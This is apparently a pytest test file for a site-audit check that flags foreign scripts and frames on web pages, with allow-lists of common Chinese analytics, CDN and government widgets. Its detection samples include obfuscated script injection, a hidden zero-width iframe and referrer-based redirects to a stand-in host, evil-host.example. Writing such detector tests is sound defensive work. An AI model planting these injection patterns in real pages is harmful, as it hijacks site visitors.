import pytest

from checks.records import Script
from checks.site.foreign_script import foreign_script
from checks.verdicts import Fine, Severity
from tests.make import crawl, findings, page, said, url


def told(*scripts: Script, frames: tuple[str, ...] = ()):
    return findings(foreign_script, crawl([page("/", scripts=scripts, frames=frames)]))


@pytest.mark.parametrize(
    "address",
    [
        "https://hm.baidu.com/hm.js?1",
        "https://s4.cnzz.com/z_stat.php?id=1",
        "http://dcs.conac.cn/js/CA1.js",
        "https://zfwzgl.www.gov.cn/exposure/jiucuo.js",
        "http://pucha.kaipuyun.cn/exposure/jiucuo.js",
        "https://webapi.amap.com/maps?v=1",
        "https://i.tianqi.com/index.php",
        "https://cdn.bootcss.com/jquery.js",
        "https://unpkg.com/a.js",
        "https://res.wx.qq.com/open/js/jweixin.js",
        "https://gov.govwza.cn/dist/aria.js",
        "http://tongji.haishan.example/t.js",
        "https://lib.baomitu.com/jquery.js",
        "https://lf26-cdn-tos.bytecdntp.com/jquery.js",
        "https://widget.qweather.net/a.js",
        "https://tianqi.2345.com/plugin/widget/index.htm",
        "https://static.geetest.com/v4/gt4.js",
        "https://static.sensorsdata.cn/sdk.js",
        "https://player.mgtv.com/a.html",
        "https://www.720yun.com/t/a",
        "https://www.wjx.cn/vm/a.aspx",
        "https://captcha.haishan.example/a.js",
    ],
)
def test_usual_components_are_no_strangers(address):
    assert not told(Script(address=address), frames=(address,))


@pytest.mark.parametrize(
    "code",
    [
        "document.write(unescape(\"%3Cspan id='cnzz_stat_icon_1'%3E\")) ⇒ <span id='cnzz_stat_icon_1'></span><script src='",
        "document.write(unescape('%3Cscript src=%22' + p + 'hm.baidu.com/h.js')) ⇒ <script src=\"",
        "meta refresh: http://www.gov.cn/",
        "function go(){ location.href='http://search.vendor.example/?q=1' }",
        "s = unescape('%u4E91%u5C71') ⇒ 云山",
        'document.write(String.fromCharCode(60,97)) ⇒ <a href="mailto:office@yunshan.example">office</a>',
        "document.write(String.fromCharCode(60,97)) ⇒ <a href='/search/'>检索</a>",
        "d.src=atob('aHR0cDo') ⇒ http://www.yunshan.example/a.js",
        "location.href='https://zwfw.zj.gov.cn/'",
    ],
)
def test_usual_snippets_are_no_strangers(code):
    assert not told(Script(code=code))


def test_a_page_without_strangers_is_fine():
    assert Fine(url("/")) in said(foreign_script, crawl([page("/")]))


@pytest.mark.parametrize(
    "code",
    [
        "meta refresh: http://www.evil-host.example/",
        "eval(String.fromCharCode(60,115)) ⇒ <script src=http://evil-host.example/x.js>",
        "document.write(unescape('%3Ciframe')) ⇒ <iframe src=http://evil-host.example/ width=0>",
        "location.href='http://www.evil-host.example/'",
        "function f(){ if(document.referrer.indexOf('baidu')>0) location.href='http://www.evil-host.example/' }",
        "document.write('<script src=http://evil-host.example/a.js></script>')",
        "eval(unescape('%66')) ⇒ document.write(x)",
        "document.write(String.fromCharCode(60,97)) ⇒ <a href='//evil-host.example/'>x</a>",
        "d.src=atob('aHR0cDo') ⇒ http://evil-host.example/go.js",
    ],
)
def test_jumps_and_disguised_writing_are_found(code):
    [finding] = told(Script(code=code))
    assert finding.url == url("/")


def test_scripts_and_frames_of_unknown_hosts_are_found():
    assert told(Script(address="http://evil-host.example/kb.js"))
    assert told(frames=("http://evil-host.example/",))


def test_it_claims_no_clause():
    assert foreign_script.severity is Severity.ADVICE


def test_what_stands_everywhere_is_told_on_three_pages():
    pages = [page(f"/{n}.html", scripts=(Script(address="http://vendor.example/a.js"),)) for n in range(20)]
    found = findings(foreign_script, crawl(pages))
    assert len(found) == 3
    assert found[0].evidence["出现页数"] == 20


def test_what_is_new_since_the_crawl_before_is_told(tmp_path):
    old, new = Script(address="http://vendor.example/a.js"), Script(address="http://evil-host.example/kb.js")
    crawl([page("/", scripts=(old,))], folder=tmp_path).close()
    [finding] = findings(foreign_script, crawl([page("/", scripts=(old, new))], folder=tmp_path))
    assert finding.evidence["比上次抓取新增"] == ["http://evil-host.example/kb.js"]
